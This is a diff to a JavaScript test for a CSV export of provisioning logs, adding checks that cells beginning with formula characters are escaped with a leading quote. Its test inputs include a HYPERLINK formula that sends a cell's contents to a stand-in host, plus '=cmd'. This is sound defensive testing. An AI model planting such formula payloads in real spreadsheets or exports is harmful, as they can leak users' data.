@@ -146,13 +146,17 @@ describe('provisioning logs (host-free): projection, filter, groups, export', ()
     assert.equal(csvField('two\nlines'), '"two\nlines"');
     assert.equal(csvField('cr\rhere'), '"cr\rhere"');
     assert.equal(csvField(''), '');
+    // Spreadsheets run a cell starting with =, +, -, @ (or a tab/CR before one) as a formula.
+    assert.equal(csvField('=HYPERLINK("http://x/?"&A1,"open")'), `"'=HYPERLINK(""http://x/?""&A1,""open"")"`);
+    for (const start of ['+1', '-2+3', '@SUM(A1)', '\t=1']) assert.equal(csvField(start).replace(/^"/, '')[0], "'", JSON.stringify(start));
+    assert.equal(csvField('a=b'), 'a=b', 'only a leading formula character counts');
     const tricky = event({ id: 'q', reason: 'Bad "userName", see\r\nline two', sourceName: 'Smith, Jo', targetName: '=cmd' });
     const csv = logsToCsv([event({ id: 'p' }), tricky]);
     const rows = parseCsv(csv);
     assert.deepEqual(rows[0], ['time', 'cycleId', 'jobId', 'app', 'action', 'status', 'errorCode', 'reason', 'sourceId', 'sourceName', 'targetId', 'targetName', 'changeId', 'id']);
     assert.deepEqual(rows[0], [...LOG_CSV_COLUMNS]);
     assert.equal(rows.length, 3);
-    assert.deepEqual(rows[2], LOG_CSV_COLUMNS.map((c) => String(tricky[c])), 'every field reads back as written');
+    assert.deepEqual(rows[2], LOG_CSV_COLUMNS.map((c) => (c === 'targetName' ? "'=cmd" : String(tricky[c]))), 'every field reads back as written, a formula made inert');
     assert.equal(logsToCsv([]), `${LOG_CSV_COLUMNS.join(',')}\r\n`);
   });
 
